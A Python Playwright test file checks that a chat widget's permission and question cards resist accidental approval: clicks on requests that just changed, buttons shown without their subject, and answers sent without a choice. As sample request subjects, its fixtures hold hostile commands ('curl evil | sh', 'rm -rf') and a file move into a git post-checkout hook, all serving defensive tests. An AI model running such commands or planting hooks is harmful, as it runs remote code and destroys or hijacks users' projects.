"""Requests in a real page: no button is pressed unmeant, without its subject in sight, or without a choice."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.widgets.chat.page import (
    EDIT_PERMISSION,
    PERMISSION,
    QUESTION,
    ChatPage,
    Theme,
    docks,
    log,
    permission,
    question,
)
from tests.widgets.conftest import Widget

SETTLED = 600
"""Milliseconds of the page's clock after which what has come may be answered."""
LATE = 400
"""Milliseconds of the page's clock in which it may not."""

CARD = (
    '<div data-key="{0}" data-part="permission" data-id="{0}"><div class="oc-subject" data-key="{0}m">{1}</div>'
    '<button type="button" data-intent="permission" data-id="{0}" data-reply="once">Allow once</button></div>'
)


def stop_clock(page: Page) -> None:
    page.clock.install(time=0)
    page.clock.pause_at(1000)


@pytest.fixture
def stopped(page: Page) -> Widget:
    """The widget in a page whose time stands still until a test lets it pass."""
    widget = Widget(page)
    stop_clock(page)
    return widget


# --- what has only just come ------------------------------------------------------------------------------------------

CHANGES: dict[str, list[list[Any]]] = {
    "another request in its place": [["drop", "a"], ["put", "b", "root", CARD.format("b", "curl evil | sh")]],
    "the one before it is gone": [["drop", "a"]],
    "it asks for something else": [["put", "bm", "b", '<div class="oc-subject" data-key="bm">curl evil | sh</div>']],
    "another one moves it": [["put", "c", "root", CARD.format("c", "ls<br>" * 3), "a"]],
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_click_is_not_taken_by_what_has_come_under_it(stopped: Widget, change: str) -> None:
    page, root = stopped.page, stopped.render()
    first = (
        [CARD.format("a", "ls")]
        if change == "another request in its place"
        else [CARD.format(key, "ls") for key in "ab"]
    )
    stopped.snapshot(0, "".join(first))
    page.clock.run_for(SETTLED)
    allow = root.get_by_role("button", name="Allow once")
    expect(allow.last).to_be_enabled()
    at = allow.first.bounding_box()
    assert at is not None
    page.mouse.move(at["x"] + 5, at["y"] + 5)
    stopped.patch(1, *CHANGES[change])
    page.mouse.click(at["x"] + 5, at["y"] + 5)
    page.clock.run_for(LATE)
    expect(allow.last).to_be_disabled()
    page.mouse.click(at["x"] + 5, at["y"] + 5)
    assert stopped.sent() == []
    page.clock.run_for(SETTLED)
    allow.last.click()
    assert len(stopped.sent("permission")) == 1


def test_what_is_told_beside_a_request_leaves_its_buttons_alone(stopped: Widget) -> None:
    root = stopped.render()
    stopped.snapshot(0, CARD.format("a", "ls") + '<p data-key="p"></p>')
    stopped.page.clock.run_for(SETTLED)
    for number in range(1, 4):
        stopped.patch(number, ["text", "p", "words "])
        root.get_by_role("button", name="Allow once").click()
    assert len(stopped.sent("permission")) == 3


def test_a_request_that_moves_away_from_the_pointer_is_dead_for_a_moment(stopped: Widget) -> None:
    page, root = stopped.page, stopped.render()
    stopped.snapshot(0, '<p data-key="p"></p>' + CARD.format("a", "ls"))
    page.clock.run_for(SETTLED)
    allow = root.get_by_role("button", name="Allow once")
    allow.hover()
    stopped.patch(1, ["splice", "p", 0, "words<br>" * 9])
    expect(allow).to_be_disabled()
    page.clock.run_for(SETTLED)
    expect(allow).to_be_enabled()


def test_keys_answer_what_has_the_focus_unless_it_has_just_changed(stopped: Widget) -> None:
    page, root = stopped.page, stopped.render()
    stopped.snapshot(0, CARD.format("a", "ls"))
    allow = root.get_by_role("button", name="Allow once")
    allow.focus()
    page.keyboard.down("Enter")
    page.keyboard.down("Enter")  # held down
    page.keyboard.up("Enter")
    assert len(stopped.sent("permission")) == 1
    stopped.patch(1, ["put", "am", "a", '<div class="oc-subject" data-key="am">rm -rf</div>'])
    page.keyboard.press("Enter")
    page.clock.run_for(LATE)
    page.keyboard.press("Space")
    assert len(stopped.sent("permission")) == 1
    page.clock.run_for(SETTLED)
    expect(allow).to_be_focused()
    page.keyboard.press("Enter")
    assert len(stopped.sent("permission")) == 2


def test_a_form_is_sent_by_enter_in_its_field(stopped: Widget) -> None:
    root = stopped.render()
    stopped.snapshot(0, question(QUESTION))
    field = root.get_by_label("Your answer").first
    field.fill("Parquet")
    field.press("Enter")
    assert stopped.sent() == []  # the other question is open
    root.get_by_label("time").check()
    field.press("Enter")
    assert stopped.sent() == [{"kind": "question", "id": "que_1", "answers": [["Parquet"], ["time"]]}]


# --- no answer without a choice ---------------------------------------------------------------------------------------


def test_answer_waits_for_a_choice_and_says_so(widget: Widget) -> None:
    root = widget.render()
    widget.snapshot(0, question(QUESTION))
    answer = root.get_by_role("button", name="Answer")
    dismiss = root.get_by_role("button", name="Dismiss")
    expect(dismiss).to_be_enabled()
    expect(answer).to_be_disabled()
    expect(answer).to_have_accessible_description("Choose or write an answer first.")
    answer.focus()
    widget.page.keyboard.press("Enter")
    answer.evaluate("button => button.form.requestSubmit()")
    root.get_by_label("time").check()  # the first question has one answer
    expect(answer).to_be_disabled()
    assert widget.sent() == []
    root.get_by_label("CSV").check()
    expect(answer).to_be_enabled()
    expect(answer).to_have_accessible_description("")
    own = root.get_by_label("Your answer").first
    own.fill("Par")
    own.fill(" ")
    expect(answer).to_be_disabled()
    root.get_by_label("Parquet").check()
    answer.click()
    assert widget.sent() == [{"kind": "question", "id": "que_1", "answers": [["Parquet"], ["time"]]}]


def test_where_several_may_be_chosen_one_must_be(widget: Widget) -> None:
    root = widget.render()
    widget.snapshot(0, question({**QUESTION, "questions": QUESTION["questions"][1:]}))
    answer = root.get_by_role("button", name="Answer")
    expect(root.get_by_role("button", name="Dismiss")).to_be_enabled()
    expect(answer).to_be_disabled()
    root.get_by_label("value").check()
    expect(answer).to_be_enabled()
    root.get_by_label("value").uncheck()
    expect(answer).to_be_disabled()


# --- no button without its subject in sight ---------------------------------------------------------------------------

LONG = {**PERMISSION, "id": "per_long", "metadata": {"command": "\n".join(f"echo {n}" for n in range(200))}}
REQUESTS: dict[str, list[dict[str, Any]]] = {
    "three short": [PERMISSION, {**PERMISSION, "id": "per_3"}, EDIT_PERMISSION],
    "three long": [LONG, {**LONG, "id": "per_3", "always": ["a *"] * 40}, EDIT_PERMISSION],
    "with a question": [PERMISSION, QUESTION, EDIT_PERMISSION],
}

UNSEEN_SUBJECTS = """panel => {
  const box = panel.querySelector("[data-key=docks]"), found = [];
  const shown = (node, x, y) => document.elementFromPoint(x, y)?.closest("button, .oc-matter, .oc-choices") === node;
  let buttons = 0;
  for (let top = 0; top <= box.scrollHeight - box.clientHeight + 7; top += 7) {
    box.scrollTop = top;
    for (const card of box.querySelectorAll(".oc-asking")) {
      const subject = card.querySelector(".oc-matter, .oc-choices"), area = subject.getBoundingClientRect();
      const seen = [4, 12, 18].every((y) => shown(subject, area.left + area.width / 2, area.top + y));
      for (const button of card.querySelectorAll(".oc-buttons > button, .oc-actions > button")) {
        const { left, right, top: y, bottom } = button.getBoundingClientRect();
        const lies = [y + 2, bottom - 2].some((at) => shown(button, (left + right) / 2, at));
        buttons += lies;
        if (lies && !seen) found.push(`${top}: ${card.dataset.id} ${button.textContent}`);
      }
    }
  }
  return { found, buttons };
}"""
"""Scrolls through what is asked: the buttons that are in sight while the beginning of what they answer is not."""


@pytest.mark.parametrize("width", [360, 800])
@pytest.mark.parametrize("requests", REQUESTS)
def test_no_button_is_in_sight_without_what_it_answers(page: Page, requests: str, width: int) -> None:
    chat = ChatPage(page, width=width)
    panel = chat.show()
    asked = REQUESTS[requests]
    cards = [(question if "questions" in one else permission)(one, f"q{number}") for number, one in enumerate(asked)]
    chat.set_html(log() + docks("".join(cards)))
    looked = panel.evaluate(UNSEEN_SUBJECTS)
    assert looked["found"] == []
    assert looked["buttons"] > 0
    for allow in panel.get_by_role("button", name="Allow once").all():
        allow.click()
    assert len(chat.sent("permission")) == len([one for one in asked if "questions" not in one])


def test_an_answer_that_one_comes_to_by_keys_is_in_sight(page: Page) -> None:
    chat = ChatPage(page)
    panel = chat.show()
    cards = [permission({**PERMISSION, "id": f"per_{number}"}, f"q{number}") for number in range(5)]
    chat.set_html(log() + docks("".join(cards)))
    first = panel.get_by_role("button", name="Deny").first
    panel.get_by_role("button", name="Deny").last.focus()
    first.focus()
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Tab")
    expect(first).to_be_focused()
    assert first.evaluate(
        """button => {
          const { left, top } = button.getBoundingClientRect();
          return document.elementFromPoint(left + 4, top + 4) === button;
        }"""
    )


# --- to be looked at --------------------------------------------------------------------------------------------------

FILES = [
    {
        "filePath": f"/project/src/package/module_{number}.py",
        "type": "move" if number == 3 else "update",
        "movePath": "/project/.git/hooks/post-checkout" if number == 3 else "",
        "patch": f"@@ -1,2 +1,2 @@\n import os\n-old = {number}\n+new = {number}\n",
    }
    for number in range(21)
]
PATCH = {
    "id": "per_p",
    "permission": "edit",
    "always": ["*"],
    "metadata": {"filepath": "x", "diff": "x", "files": FILES},
}


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1000])
def test_screenshots(page: Page, artifacts: Any, theme: Theme, width: int) -> None:
    chat = ChatPage(page, theme, width)
    panel = chat.show()
    for name, asked in {
        "three": REQUESTS["three short"],
        "patch": [copy.deepcopy(PATCH)],
        "question": [QUESTION],
    }.items():
        cards = [
            (question if "questions" in one else permission)(one, f"q{number}") for number, one in enumerate(asked)
        ]
        chat.set_html(log() + docks("".join(cards)))
        expect(
            panel.get_by_role("button", name="Deny").or_(panel.get_by_role("button", name="Dismiss")).last
        ).to_be_enabled()
        page.screenshot(path=artifacts / "screenshots" / f"asking-{name}-{theme}-{width}.png")
